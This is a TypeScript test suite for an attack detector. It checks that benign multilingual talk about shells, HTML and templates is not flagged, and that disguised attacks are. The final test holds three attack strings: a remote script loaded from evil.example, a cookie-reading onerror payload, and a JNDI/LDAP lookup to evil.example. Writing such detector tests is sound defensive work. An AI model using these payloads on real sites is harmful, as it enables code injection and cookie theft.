import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isAttack, rulesOf } from './fixtures.ts'

/** What people write to one another about shells, pages, templates and files: none of it is an attack. */
const english = [
  'Use `ls -la` to list all files, including hidden ones.',
  'How do I delete a directory that is not empty? rm -r works, but be careful with it.',
  'The command cat /etc/passwd prints the list of users.',
  'You can chain commands with && or ; in bash.',
  'Why does `echo $PATH` print nothing in my script?',
  'Run `sudo apt-get install curl` and then try again.',
  'To see what is listening on a port, use netstat -tulpn or ss -tulpn.',
  'I get "command not found" when I type ifconfig; the ip command is its successor.',
  'Pipe the output to grep to filter it: ps aux | grep nginx shows the processes of the web server.',
  'In PowerShell, Get-ChildItem lists the content of a folder, and dir is an alias for it.',
  'On Windows the hosts file is in C:\\Windows\\System32\\drivers\\etc and you need to be an administrator to change it.',
  'What is the difference between $(command) and `command` in a shell script?',
  'The shebang line #!/bin/bash tells the system which interpreter to use.',
  'Set the variable with export NAME=value; the child processes will see it.',
  'Does anyone know how to use wget to download a whole site?',
  'curl -O https://example.org/file.tar.gz downloads the file, and tar xzf unpacks it.',
  'ping is the first thing that I try when a host is not reachable.',
  'Redirect errors with 2>&1, or throw them away with 2>/dev/null.',
  'The <div> element has no meaning of its own; use <section> or <article> where you can.',
  'Put your <script> tags at the end of the <body> so that the page is shown first.',
  'What does <br> do, and when should I use <p> instead of it?',
  'The onclick attribute is old style; use addEventListener to handle the event.',
  'How can I show an alert box in JavaScript when a user clicks on a button?',
  'document.getElementById returns null if there is no element with that id.',
  'An <a> element without an href attribute is not a link.',
  'You need to escape < and > in HTML, or they will be taken for tags.',
  'My <img> is not shown, and I do not know why. The src is right.',
  'The <iframe> tag loads another page within the page.',
  'Use {{ name }} to print a variable in a Jinja template, and {% if %} for conditions.',
  'In Angular, {{ 1 + 1 }} shows 2, as you would expect it to.',
  'Spring replaces ${server.port} by the value of the property.',
  'The relative path ../images/logo.png goes one folder up and then into images.',
  'Logs are in /var/log and the configuration of the server is in /etc/nginx, as on most systems.',
  'Use ../ to go up one level, and ../../ to go up two.',
  'Never run chmod 777 on anything; it gives everyone the right to write.',
  'The file .htaccess is read by Apache each time a page is asked for.',
  'We connect to http://localhost:8080/ in development, and to the real server in production.',
  'XML lets you declare entities with <!ENTITY>, which is why parsers should be set not to load them from elsewhere.',
  'To run a program every night, add a line to the crontab with crontab -e.',
  'kill -9 ends a process at once; try kill first, so that it can clean up.',
  'The eval() function in JavaScript runs a string as code, and that is why you should not use it.',
  'PHP has system(), exec() and passthru() to run commands; each of them needs care.',
  'sed and awk are the tools that I use most; find comes third.',
  'Type exit or press Ctrl+D to leave the shell.',
]

const german = [
  'Mit `ls -la` siehst du alle Dateien, auch die versteckten.',
  'Der Befehl cat /etc/passwd zeigt die Liste der Benutzer an.',
  'Wie lösche ich ein Verzeichnis, das nicht leer ist? Mit rm -r, aber sei vorsichtig damit.',
  'Befehle lassen sich mit && oder ; verketten, und mit | gibt man die Ausgabe weiter.',
  'Führe `sudo apt-get install curl` aus und versuche es dann noch einmal.',
  'Die Hosts-Datei liegt unter C:\\Windows\\System32\\drivers\\etc, und man braucht Rechte als Administrator.',
  'Was ist der Unterschied zwischen $(befehl) und `befehl` in einem Skript?',
  'Das Element <div> hat keine eigene Bedeutung; nimm <section> oder <article>, wo es geht.',
  'Setze die <script>-Tags an das Ende von <body>, damit die Seite zuerst angezeigt wird.',
  'Das Attribut onclick ist veraltet; besser ist addEventListener für das Ereignis.',
  'Wie zeige ich in JavaScript mit alert() eine Meldung an, wenn auf einen Knopf geklickt wird?',
  'Man muss < und > in HTML maskieren, sonst werden sie für Tags gehalten.',
  'Mit {{ name }} gibt man in einer Vorlage eine Variable aus, und mit {% if %} prüft man sie.',
  'Der Pfad ../bilder/logo.png geht einen Ordner nach oben und dann in den Ordner bilder.',
  'Die Protokolle liegen in /var/log und die Einstellungen des Servers in /etc/nginx.',
  'In der Entwicklung verbinden wir uns mit http://localhost:8080/ und später mit dem richtigen Server.',
  'Mit ping prüft man, ob ein Rechner erreichbar ist; das ist das Erste, was ich versuche.',
  'Die Funktion eval() führt eine Zeichenkette als Programm aus, und deshalb sollte man sie nicht verwenden.',
  'Mit kill -9 wird ein Prozess sofort beendet, ohne dass er aufräumen kann.',
  'Fehler leitet man mit 2>&1 um, oder man wirft sie mit 2>/dev/null weg.',
]

const spanish = [
  'Con `ls -la` se ven todos los archivos, también los ocultos.',
  'El comando cat /etc/passwd muestra la lista de los usuarios.',
  '¿Cómo borro un directorio que no está vacío? Con rm -r, pero con cuidado.',
  'Los comandos se encadenan con && o con ; y la salida se pasa con | a otro.',
  'Ejecuta `sudo apt-get install curl` y luego inténtalo otra vez.',
  'El archivo hosts está en C:\\Windows\\System32\\drivers\\etc y hace falta ser administrador.',
  '¿Cuál es la diferencia entre $(comando) y `comando` en un script?',
  'El elemento <div> no tiene significado propio; usa <section> o <article> cuando puedas.',
  'Pon las etiquetas <script> al final de <body> para que la página se vea antes.',
  'El atributo onclick es antiguo; es mejor usar addEventListener para el evento.',
  '¿Cómo muestro un mensaje con alert() en JavaScript cuando se pulsa un botón?',
  'Hay que escapar < y > en HTML, o se toman por etiquetas.',
  'Con {{ nombre }} se escribe una variable en una plantilla, y con {% if %} se comprueba.',
  'La ruta ../imagenes/logo.png sube una carpeta y entra en la carpeta imagenes.',
  'Los registros están en /var/log y la configuración del servidor en /etc/nginx.',
  'En desarrollo nos conectamos a http://localhost:8080/ y después al servidor de verdad.',
  'Con ping se comprueba si un equipo responde; es lo primero que pruebo.',
  'La función eval() ejecuta una cadena como programa, y por eso no se debe usar.',
  'Con kill -9 un proceso termina en el acto, sin que pueda limpiar.',
  'Los errores se redirigen con 2>&1, o se tiran con 2>/dev/null.',
]

/** The share of such texts that may be taken for an attack. */
const bearable = 0.03

test('talk about shells, pages and templates is no attack, in three languages', () => {
  const texts = [...english, ...german, ...spanish]
  for (const context of ['query', 'body'] as const) {
    const alarms = texts.filter((text) => isAttack(text, context))
    const told = alarms.map((text) => `${rulesOf(text, context).join(' ')}: ${text}`).join('\n')
    assert.ok(
      alarms.length <= texts.length * bearable,
      `${context}: ${alarms.length} of ${texts.length}\n${told}`,
    )
  }
})

test('prose around an attack does not hide it', () => {
  const attacks = [
    'I really like the post, and I will come back to read it again. <script src="https://evil.example/a.js"></script>',
    'Thank you for this. <img src=x onerror=alert(document.cookie)> It was what I was looking for, and it is the best that I have seen.',
    'Hello, I would like to know when you are open. ${jndi:ldap://evil.example/a} That would be of great help to me and to my family.',
  ]
  for (const text of attacks) assert.ok(isAttack(text, 'body'), text)
})
